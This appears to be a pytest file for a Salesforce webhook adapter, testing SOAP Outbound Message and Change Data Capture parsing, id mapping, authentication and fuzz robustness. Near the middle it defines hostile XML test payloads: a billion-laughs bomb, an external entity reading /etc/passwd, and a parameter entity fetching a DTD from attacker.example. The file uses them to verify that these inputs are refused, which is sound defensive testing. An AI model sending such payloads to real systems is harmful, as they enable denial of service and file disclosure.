"""Salesforce adapter: Outbound Messages (SOAP) and relayed Change Data Capture events.

Fixtures and their sources: tests/adapters/fixtures/salesforce/SOURCES.md.
"""

from __future__ import annotations

import copy
import time
from pathlib import Path
from typing import Any

import orjson
import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from multidict import CIMultiDict

from app.adapters.base import Counts, Delivery, Parsed
from app.adapters.salesforce import SalesforceAdapter, id18
from app.edge import EdgeError, sign
from app.settings import Settings
from schemas.activity import validate_event

FIXTURES = Path(__file__).parent / "fixtures" / "salesforce"
SECRET = "s3cret-token_value"
NOW = 1_800_000_000
XML = "text/xml; charset=utf-8"
JSON = "application/json"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def adapter(**overrides: Any) -> SalesforceAdapter:
    values = {"salesforce_secret": SECRET, **overrides}
    return SalesforceAdapter(Settings(_env_file=None, **values))


def delivery(body: bytes, content_type: str = JSON, token: str | None = SECRET,
             signed_at: int | None = NOW, secret: str = SECRET) -> Delivery:
    headers = CIMultiDict({"Content-Type": content_type})
    query = {}
    if content_type == XML:
        headers["SOAPAction"] = '""'
        if token is not None:
            query["token"] = token
    elif signed_at is not None:
        headers["X-CRM-Pulse-Signature"] = sign(secret, body, signed_at)
    url = "https://pulse.example.com/webhooks/salesforce"
    return Delivery("POST", url, headers, query, body)


def parse(body: bytes, content_type: str = JSON) -> Parsed:
    parsed = adapter().parse(delivery(body, content_type))
    for vendor_event in parsed.events:  # every mapped event is a valid canonical event
        validate_event(dict(vendor_event.event, user_id="u1"))
    return parsed


def summary(parsed: Parsed) -> list[tuple[str, str, str, str | None]]:
    return [(e.event["type"], e.event["action"], e.event["event_id"], e.owner)
            for e in parsed.events]


def dump(payload: Any) -> bytes:
    return orjson.dumps(payload)


# -- ids ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("short", "long"), [
    ("0015f00002J9YYE", "0015f00002J9YYEAA3"),
    ("006SM0000001Tb3", "006SM0000001Tb3YAE"),
    ("005ZM000000M6o1", "005ZM000000M6o1YAC"),
    ("0019000001KwyWt", "0019000001KwyWtAAJ"),
])
def test_id18_appends_the_documented_checksum(short: str, long: str) -> None:
    assert id18(short) == long
    assert id18(long) == long
    assert SalesforceAdapter.owner_key(short) == SalesforceAdapter.owner_key(long) == long


def test_id18_leaves_other_values_alone() -> None:
    for value in ("", "005", "005D0000001cSZ!", "ünïcödé-ïd-0123", "x" * 40):
        assert id18(value) == value


# -- Outbound Messages -------------------------------------------------------------------------


def test_outbound_opportunities_map_to_created_won_and_lost() -> None:
    parsed = parse(fixture("outbound_opportunities.xml"), XML)
    owner, other = "005RM000001vI4QYAU", "005RM000001vI4RYAU"
    assert summary(parsed) == [
        ("opportunity_created", "created",
         "salesforce:opportunity:006RM000004TmiQYAS:created", owner),
        ("opportunity_won", "created", "salesforce:opportunity:006RM000004TmiRYAS:won", owner),
        ("opportunity_lost", "created", "salesforce:opportunity:006RM000004TmiSYAS:lost", other),
    ]
    created, won, lost = (e.event for e in parsed.events)
    assert created["feature"] == "opportunities"
    assert created["occurred_at"] == "2026-11-23T09:30:00.000Z"
    assert created["source"] == "salesforce"
    assert (created["record_type"], created["record_id"]) == ("opportunity", "006RM000004TmiQYAS")
    assert created["attributes"] == {"stage": "Prospecting"}
    assert (won["amount"], won["currency"]) == (50000.0, "EUR")
    assert won["occurred_at"] == "2026-11-23T10:15:00.000Z"
    assert "amount" not in lost and "feature" not in won
    assert parsed.unmapped == [] and parsed.ignored == 0


def test_outbound_tasks_map_calls_emails_completions_and_updates() -> None:
    parsed = parse(fixture("outbound_tasks.xml"), XML)
    caller, other = "005RM000001vI4QYAU", "005RM000001vI4RYAU"
    assert summary(parsed) == [
        ("call", "created", "salesforce:task:00TRM00000Ab1Cd2AJ:created", caller),
        ("call", "completed", "salesforce:task:00TRM00000Ab1Cd2AJ:completed", caller),
        ("email", "created", "salesforce:task:00TRM00000Ab1Ce2AJ:created", caller),
        ("email", "completed", "salesforce:task:00TRM00000Ab1Ce2AJ:completed", caller),
        ("task", "completed", "salesforce:task:00TRM00000Ab1Cf2AJ:completed", other),
        ("record_updated", "updated",
         "salesforce:task:00TRM00000Ab1Cg2AJ:om:04lRM00000Gx7R5YAJ", other),
    ]
    call, _, email, *_ = (e.event for e in parsed.events)
    assert (call["feature"], call["duration_s"]) == ("phone_calls", 300.0)
    assert email["feature"] == "email_tracking" and "duration_s" not in email
    assert parsed.events[4].event["occurred_at"] == "2026-11-23T10:00:00.000Z"


def test_outbound_cases_map_to_created_and_resolved() -> None:
    parsed = parse(fixture("outbound_cases.xml"), XML)
    owner = "005RM000001vI4RYAU"
    assert summary(parsed) == [
        ("case_created", "created", "salesforce:case:500RM000002bXyZYAU:created", owner),
        ("case_resolved", "created", "salesforce:case:500RM000002bXz0YAE:resolved", owner),
    ]
    assert parsed.events[0].event["feature"] == "cases"


def test_outbound_redelivery_maps_to_the_same_event_ids() -> None:
    body = fixture("outbound_tasks.xml")
    assert summary(parse(body, XML)) == summary(parse(body, XML))


def test_outbound_milestone_id_is_record_based_across_notifications() -> None:
    """A later edit of a won opportunity is a new Notification; the win still counts once."""
    body = fixture("outbound_opportunities.xml")
    edited = body.replace(b"04lRM00000Gx7R0YAJ", b"04lRM00000Gx9ZZYAJ").replace(
        b"2026-11-23T10:15:00.000Z", b"2026-11-24T08:00:00.000Z")
    assert summary(parse(body, XML))[1] == summary(parse(edited, XML))[1]


def test_outbound_capture_without_dates_is_dead_lettered() -> None:
    parsed = parse(fixture("outbound_account_capture.xml"), XML)
    assert parsed.events == [] and parsed.ignored == 0
    [unmapped] = parsed.unmapped
    assert unmapped.reason == "schema:occurred_at"
    assert "CreatedDate" in unmapped.message
    assert b"0019000001KwyWtAAJ" in unmapped.original and b"04l9000001olR84AAE" in unmapped.original


def test_outbound_account_with_dates_and_owner_maps_to_account_created() -> None:
    body = fixture("outbound_account_capture.xml").replace(
        b"<sf:Name>", b"<sf:CreatedDate>2026-11-23T09:00:00.000+01:00</sf:CreatedDate>"
                      b"<sf:LastModifiedDate>2026-11-23T08:00:00Z</sf:LastModifiedDate>"
                      b"<sf:OwnerId>005D0000001cSZs</sf:OwnerId><sf:Name>")
    [event] = parse(body, XML).events
    assert (event.event["type"], event.event["feature"]) == ("account_created", "accounts")
    assert event.event["occurred_at"] == "2026-11-23T08:00:00.000Z"
    assert event.owner == "005D0000001cSZsIAM"


def test_outbound_unsupported_object_is_ignored() -> None:
    body = fixture("outbound_cases.xml").replace(b'"sf:Case"', b'"sf:Product2"')
    parsed = parse(body, XML)
    assert (parsed.events, parsed.unmapped, parsed.ignored) == ([], [], 2)


@pytest.mark.parametrize(("old", "new", "reason"), [
    (b"<sf:Id>500RM000002bXyZYAU</sf:Id>", b"<sf:Id>not an id</sf:Id>", "schema:record_id"),
    (b"<Id>04lRM00000Gx7R6YAJ</Id>", b"", "schema:record_id"),
    (b"2026-11-23T08:00:00.000Z</sf:CreatedDate>", b"yesterday</sf:CreatedDate>",
     "schema:occurred_at"),
    (b' xsi:type="sf:Case">\n     <sf:Id>500RM000002bXyZ', b">\n     <sf:Id>500RM000002bXyZ",
     "unmappable"),
    (b"<sf:OwnerId>005RM000001vI4RYAU</sf:OwnerId>\n     <sf:Status>New",
     b"<sf:OwnerId>Queue 7</sf:OwnerId>\n     <sf:Status>New", "unmappable"),
])
def test_outbound_broken_notification_is_unmapped(old: bytes, new: bytes, reason: str) -> None:
    body = fixture("outbound_cases.xml")
    assert old in body
    parsed = parse(body.replace(old, new, 1), XML)
    assert [u.reason for u in parsed.unmapped] == [reason]
    assert [e.event["type"] for e in parsed.events] == ["case_resolved"]


def test_outbound_bad_amount_is_unmapped() -> None:
    body = fixture("outbound_opportunities.xml").replace(b">50000.0<", b">lots<")
    parsed = parse(body, XML)
    assert [u.reason for u in parsed.unmapped] == ["schema:amount"]
    assert len(parsed.events) == 2


def test_outbound_is_acknowledged_with_the_soap_ack() -> None:
    sf = adapter()
    request = delivery(fixture("outbound_tasks.xml"), XML)
    parsed = sf.parse(request)
    answer = sf.acknowledge(request, Counts(len(parsed.events), 0, parsed.ignored))
    assert (answer.status, answer.content_type) == (200, "text/xml")
    root = fromstring(answer.body, forbid_dtd=True)
    ack = root.find(".//{http://soap.sforce.com/2005/09/outbound}notificationsResponse"
                    "/{http://soap.sforce.com/2005/09/outbound}Ack")
    assert ack is not None and ack.text == "true"


def test_outbound_token_is_checked() -> None:
    body = fixture("outbound_tasks.xml")
    sf = adapter()
    sf.authenticate(delivery(body, XML), NOW)
    for token, expected in ((None, "no ?token="), ("", "no ?token="), ("wrong", "is not")):
        with pytest.raises(EdgeError) as refused:
            sf.authenticate(delivery(body, XML, token=token), NOW)
        assert (refused.value.status, refused.value.reason) == (401, "bad_credentials")
        assert expected in refused.value.message and SECRET not in refused.value.message


def test_outbound_organization_id_is_checked_on_15_characters() -> None:
    body = fixture("outbound_tasks.xml")  # OrganizationId 00DRM000000Hc3e2AC
    adapter(salesforce_organization_id="00DRM000000Hc3e").authenticate(delivery(body, XML), NOW)
    adapter(salesforce_organization_id="00DRM000000Hc3e2AC").authenticate(
        delivery(body, XML), NOW)
    for other in ("00DRM000000Hc3f", "00drm000000hc3e"):
        with pytest.raises(EdgeError) as refused:
            adapter(salesforce_organization_id=other).authenticate(delivery(body, XML), NOW)
        assert (refused.value.status, refused.value.reason) == (401, "bad_credentials")
        assert "00DRM000000Hc3e2AC" in refused.value.message
    without = body.replace(b"<OrganizationId>00DRM000000Hc3e2AC</OrganizationId>", b"")
    with pytest.raises(EdgeError):
        adapter(salesforce_organization_id="00DRM000000Hc3e").authenticate(
            delivery(without, XML), NOW)


def test_unconfigured_adapter_does_not_authenticate() -> None:
    sf = SalesforceAdapter(Settings(_env_file=None))
    assert not sf.configured() and adapter().configured()
    sf.authenticate(delivery(fixture("outbound_tasks.xml"), XML, token=None), NOW)
    sf.authenticate(delivery(b"{}", signed_at=None), NOW)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&lol9;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE notifications [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<x/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion_laughs", "external_entity", "parameter_entity"])
def test_xml_attacks_are_refused_fast(body: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(EdgeError) as refused:
        adapter().parse(delivery(body, XML))
    assert (refused.value.status, refused.value.reason) == (400, "unmappable")
    assert "DTD" in refused.value.message
    with pytest.raises(EdgeError) as refused:  # the org check reads the body before parse does
        adapter(salesforce_organization_id="00DRM000000Hc3e").authenticate(
            delivery(body, XML), NOW)
    assert refused.value.status == 400
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("body", [
    b"", b"not xml", b"<a><b></a>", b'<?xml version="1.0" encoding="nope"?><a/>',
    b"<notifications xmlns='http://soap.sforce.com/2005/09/outbound'/>",
    b"<soapenv:Envelope xmlns:soapenv='http://schemas.xmlsoap.org/soap/envelope/'>"
    b"<soapenv:Body><other/></soapenv:Body></soapenv:Envelope>",
    fixture("cdc_account_create_pubsub.json"),
])
def test_non_outbound_xml_is_a_bad_body(body: bytes) -> None:
    with pytest.raises(EdgeError) as refused:
        adapter().parse(delivery(body, XML))
    assert (refused.value.status, refused.value.reason) == (400, "unmappable")


# -- Change Data Capture -----------------------------------------------------------------------


def test_pubsub_account_create() -> None:
    parsed = parse(fixture("cdc_account_create_pubsub.json"))
    assert summary(parsed) == [("account_created", "created",
                                "salesforce:account:0015f00002J9YYEAA3:created",
                                "0055f000005mc66AAA")]
    event = parsed.events[0].event
    assert event["occurred_at"] == "2024-04-09T20:19:25.000Z"
    assert (event["feature"], event["record_type"]) == ("accounts", "account")


def test_pubsub_opportunity_create() -> None:
    parsed = parse(fixture("cdc_opportunity_create_pubsub.json"))
    assert summary(parsed) == [("opportunity_created", "created",
                                "salesforce:opportunity:006SM0000001Tb3YAE:created",
                                "005SM000000146PYAQ")]
    assert parsed.events[0].event["occurred_at"] == "2022-05-19T16:32:13.000Z"
    assert parsed.events[0].event["attributes"] == {"stage": "Prospecting"}


def test_enriched_update_is_a_record_update_by_the_commit_user() -> None:
    parsed = parse(fixture("cdc_account_update_enriched.json"))
    assert summary(parsed) == [(
        "record_updated", "updated",
        "salesforce:account:001ZM000001QkdOYAS:cdc:00097360-44a0-7c2e-a172-97381ae22f82:1",
        "005ZM000000M6o1YAC")]


def test_enriched_delete() -> None:
    parsed = parse(fixture("cdc_account_delete_enriched.json"))
    assert summary(parsed) == [("account_created", "deleted",
                                "salesforce:account:001ZM000001QkdOYAS:deleted",
                                "005ZM000000M6o1YAC")]
    assert parsed.events[0].event["occurred_at"] == "2024-04-26T23:08:31.000Z"


def test_cometd_event_with_15_character_ids() -> None:
    parsed = parse(fixture("cometd_account_create.json"))
    assert summary(parsed) == [("account_created", "created",
                                "salesforce:account:001D000000IqhSLIAZ:created",
                                "005D0000001cSZsIAM")]
    assert parsed.events[0].event["occurred_at"] == "2017-07-25T19:16:46.653Z"


@pytest.mark.parametrize("name", ["cdc_account_gap_create.json", "cdc_account_overflow.json",
                                  "cometd_platform_event_low_ink.json"])
def test_gap_overflow_and_platform_events_are_ignored(name: str) -> None:
    parsed = parse(fixture(name))
    assert (parsed.events, parsed.unmapped, parsed.ignored) == ([], [], 1)


def test_array_of_documented_events() -> None:
    names = ["cdc_account_create_pubsub.json", "cdc_opportunity_create_pubsub.json",
             "cdc_account_update_enriched.json", "cdc_account_gap_create.json",
             "cometd_platform_event_low_ink.json", "cometd_account_create.json"]
    body = b"[" + b",".join(fixture(name) for name in names) + b"]"
    parsed = parse(body)
    assert [e.event["type"] for e in parsed.events] == [
        "account_created", "opportunity_created", "record_updated", "account_created"]
    assert parsed.ignored == 2 and parsed.unmapped == []
    assert summary(parse(body)) == summary(parsed)  # a re-relay maps to the same ids
    answer = adapter().acknowledge(delivery(body), Counts(4, 0, 2))
    assert (answer.status, orjson.loads(answer.body)) == (
        202, {"accepted": 4, "dead_lettered": 0, "ignored": 2})


# Change events derived from the documented Opportunity CREATE (Pub/Sub: unchanged fields null).


def change_event(entity: str, change_type: str, record_id: str, fields: dict[str, Any],
                 changed: list[str] | None = None) -> dict[str, Any]:
    event = copy.deepcopy(orjson.loads(fixture("cdc_opportunity_create_pubsub.json")))
    header = event.pop("ChangeEventHeader")
    header.update(entityName=entity, changeType=change_type, recordIds=[record_id],
                  transactionKey="0000049a-1111-2222-3333-444455556666", sequenceNumber=2,
                  commitTimestamp=1_700_000_000_000,
                  changedFields=[*(changed or []), "LastModifiedDate"] if changed else [])
    if change_type == "CREATE":
        return {"ChangeEventHeader": header, **event, **fields}
    return {"ChangeEventHeader": header, **dict.fromkeys(event), **fields}


OPPORTUNITY = "006SM0000001Tb3YAE"
REP, COMMITTER = "005SM000000146PYAQ", "005SM0000001AbCYAQ"


def test_opportunity_closed_won_update_with_enriched_amount() -> None:
    event = change_event("Opportunity", "UPDATE", OPPORTUNITY, {
        "StageName": "Closed Won", "IsClosed": True, "IsWon": True, "Probability": 100,
        "Amount": 40000, "CurrencyIsoCode": "USD", "OwnerId": REP,
        "LastModifiedDate": 1_700_000_000_000,
    }, changed=["StageName", "IsClosed", "IsWon", "Probability"])
    event["ChangeEventHeader"]["commitUser"] = COMMITTER
    parsed = parse(dump(event))
    assert summary(parsed) == [("opportunity_won", "created",
                                f"salesforce:opportunity:{OPPORTUNITY}:won", REP)]
    won = parsed.events[0].event
    assert (won["amount"], won["currency"], won["occurred_at"]) == (
        40000, "USD", "2023-11-14T22:13:20.000Z")


def test_opportunity_closed_lost_update_without_decoded_changed_fields() -> None:
    event = change_event("Opportunity", "UPDATE", OPPORTUNITY,
                         {"StageName": "Closed Lost", "IsClosed": True})
    event["ChangeEventHeader"]["changedFields"] = ["0x1C0000"]  # undecoded Pub/Sub bitmap
    assert summary(parse(dump(event))) == [
        ("opportunity_lost", "created", f"salesforce:opportunity:{OPPORTUNITY}:lost", REP)]


def test_owner_change_is_a_reassignment_to_the_new_owner() -> None:
    event = change_event("Opportunity", "UPDATE", OPPORTUNITY, {"OwnerId": COMMITTER},
                         changed=["OwnerId"])
    parsed = parse(dump(event))
    assert summary(parsed) == [(
        "opportunity_created", "reassigned",
        f"salesforce:opportunity:{OPPORTUNITY}:cdc:0000049a-1111-2222-3333-444455556666:2"
        ":reassigned", COMMITTER)]


def test_enriched_owner_is_not_a_reassignment() -> None:
    event = change_event("Opportunity", "UPDATE", OPPORTUNITY,
                         {"OwnerId": COMMITTER, "NextStep": "Demo"}, changed=["NextStep"])
    assert [e.event["type"] for e in parse(dump(event)).events] == ["record_updated"]


def test_task_call_create_and_completion() -> None:
    task = "00TSM000001AbCdYAQ"
    created = change_event("Task", "CREATE", task, {
        "TaskSubtype": "Call", "Status": "Open", "IsClosed": False,
        "CallDurationInSeconds": 95})
    completed = change_event("Task", "UPDATE", task, {"Status": "Completed", "IsClosed": True},
                             changed=["Status", "IsClosed"])
    parsed = parse(dump([created, completed]))
    assert summary(parsed) == [
        ("call", "created", f"salesforce:task:{task}:created", REP),
        ("task", "completed", f"salesforce:task:{task}:completed", REP),
    ]
    assert parsed.events[0].event["duration_s"] == 95
    assert parsed.events[0].event["feature"] == "phone_calls"


def test_event_create_is_a_meeting() -> None:
    event = change_event("Event", "CREATE", "00USM000000XyZaYAQ", {"DurationInMinutes": 30})
    [meeting] = parse(dump(event)).events
    assert (meeting.event["type"], meeting.event["feature"]) == ("meeting", "appointments")
    assert meeting.event["duration_s"] == 1800


def test_case_closed_update_is_resolved() -> None:
    event = change_event("Case", "UPDATE", "500SM000003QrStYAQ",
                         {"Status": "Closed", "IsClosed": True}, changed=["Status", "IsClosed"])
    assert [e.event["type"] for e in parse(dump(event)).events] == ["case_resolved"]


def test_merged_event_maps_every_record() -> None:
    event = orjson.loads(fixture("cdc_account_delete_enriched.json"))
    event["ChangeEventHeader"]["recordIds"] = ["001ZM000001QkdOYAS", "001ZM000001QkdP"]
    assert [e.event["record_id"] for e in parse(dump(event)).events] == [
        "001ZM000001QkdOYAS", id18("001ZM000001QkdP")]


@pytest.mark.parametrize(("change", "value"), [
    ("changeType", "UNDELETE"), ("entityName", "Employee__c"), ("recordIds", ["001*"])])
def test_uncounted_change_events_are_ignored(change: str, value: Any) -> None:
    event = orjson.loads(fixture("cdc_account_create_pubsub.json"))
    event["ChangeEventHeader"][change] = value
    parsed = parse(dump(event))
    assert (parsed.events, parsed.unmapped, parsed.ignored) == ([], [], 1)


def broken(change: dict[str, Any]) -> dict[str, Any]:
    event = orjson.loads(fixture("cdc_account_create_pubsub.json"))
    event["ChangeEventHeader"].update(change)
    return event


def test_broken_elements_are_unmapped_with_their_bytes() -> None:
    elements = [
        orjson.loads(fixture("cdc_account_create_pubsub.json")),
        42,
        {"Name": "Acme"},
        broken({"recordIds": []}),
        broken({"recordIds": ["not-an-id!"]}),
        broken({"commitTimestamp": "yesterday"}),
        broken({"commitTimestamp": 10**15}),
        broken({"sequenceNumber": None}),
        broken({"changeType": "SNAPSHOT"}),
        broken({"commitUser": 7}),
        {**broken({}), "OwnerId": None, "CurrencyIsoCode": "eur"},
        {**broken({}), "ChangeEventHeader": "CREATE"},
    ]
    elements[10]["ChangeEventHeader"]["entityName"] = "Opportunity"
    elements[10]["IsWon"] = True
    parsed = parse(dump(elements))
    assert [e.event["type"] for e in parsed.events] == ["account_created"]
    assert [u.reason for u in parsed.unmapped] == [
        "unmappable", "unmappable", "schema:record_id", "schema:record_id",
        "schema:occurred_at", "schema:occurred_at", "schema:event_id", "unmappable",
        "unmappable", "schema:currency", "unmappable"]
    assert parsed.unmapped[0].original == b"42"
    assert orjson.loads(parsed.unmapped[2].original) == elements[3]


def test_single_broken_object_keeps_the_body_as_original() -> None:
    body = b'{"Name": "Acme"}'
    [unmapped] = parse(body).unmapped
    assert unmapped.original == body


def test_deeply_nested_element_is_unmapped() -> None:
    body = b"[" + b"[" * 300 + b"]" * 300 + b"]"
    [unmapped] = parse(body).unmapped
    assert unmapped.reason == "unmappable" and unmapped.original == body


@pytest.mark.parametrize("body", [b"", b"not json", b"42", b'"event"', b"[]", b"null",
                                  fixture("outbound_tasks.xml")])
def test_non_json_bodies_are_bad(body: bytes) -> None:
    with pytest.raises(EdgeError) as refused:
        adapter().parse(delivery(body))
    assert (refused.value.status, refused.value.reason) == (400, "unmappable")


def test_change_event_signature() -> None:
    body = fixture("cdc_account_create_pubsub.json")
    sf = adapter()
    sf.authenticate(delivery(body), NOW)
    refused = [
        delivery(body, secret="another secret"),
        Delivery("POST", "/", delivery(body).headers, {}, body + b" "),
        delivery(body, signed_at=NOW - 301),
        delivery(body, signed_at=None),
        delivery(body, XML.replace("xml", "json"), signed_at=None),
    ]
    for request in refused:
        with pytest.raises(EdgeError) as error:
            sf.authenticate(request, NOW)
        assert (error.value.status, error.value.reason) == (401, "bad_signature")


def test_xml_token_does_not_authenticate_json() -> None:
    body = fixture("cdc_account_create_pubsub.json")
    request = Delivery("POST", "/", CIMultiDict({"Content-Type": JSON}), {"token": SECRET}, body)
    with pytest.raises(EdgeError):
        adapter().authenticate(request, NOW)


# -- No bytes make parse raise anything but EdgeError ---------------------------------------

ALL_FIXTURES = sorted(FIXTURES.glob("*.xml")) + sorted(FIXTURES.glob("*.json"))


def parse_any(body: bytes, content_type: str) -> None:
    try:
        parsed = adapter().parse(delivery(body, content_type))
    except EdgeError as exc:
        assert exc.status == 400
        return
    for vendor_event in parsed.events:
        validate_event(dict(vendor_event.event, user_id="u1"))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=st.binary(max_size=2048), content_type=st.sampled_from([XML, JSON]))
def test_arbitrary_bytes_only_raise_edge_errors(body: bytes, content_type: str) -> None:
    parse_any(body, content_type)


@st.composite
def mutated_fixture(draw: st.DrawFn) -> tuple[bytes, str]:
    path = draw(st.sampled_from(ALL_FIXTURES))
    body = bytearray(path.read_bytes())
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(body)))
        action = draw(st.sampled_from(["flip", "insert", "delete", "swap_text"]))
        if action == "flip" and at < len(body):
            body[at] = draw(st.integers(0, 255))
        elif action == "insert":
            body[at:at] = draw(st.sampled_from(
                [b"<", b">", b'"', b"&", b"[", b"]", b"{", b"}", b",", b"null", b"true", b"-1",
                 b"1e400", b"\xff", b"<x>", b"</sObject>", b"&lol;", b"0" * 40]))
        elif action == "delete":
            del body[at:at + draw(st.integers(1, 20))]
        else:
            body = bytearray(bytes(body).replace(
                draw(st.sampled_from([b"true", b"false", b"Closed", b"CREATE", b"UPDATE",
                                      b"Id>", b"0.0", b"Z<"])),
                draw(st.sampled_from([b"false", b"", b"DELETE", b"GAP_UPDATE", b"1e99",
                                      b"+99:00<", b"\xc3("]))))
    return bytes(body), XML if path.suffix == ".xml" else JSON


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sample=mutated_fixture())
def test_mutated_fixtures_only_raise_edge_errors(sample: tuple[bytes, str]) -> None:
    parse_any(*sample)
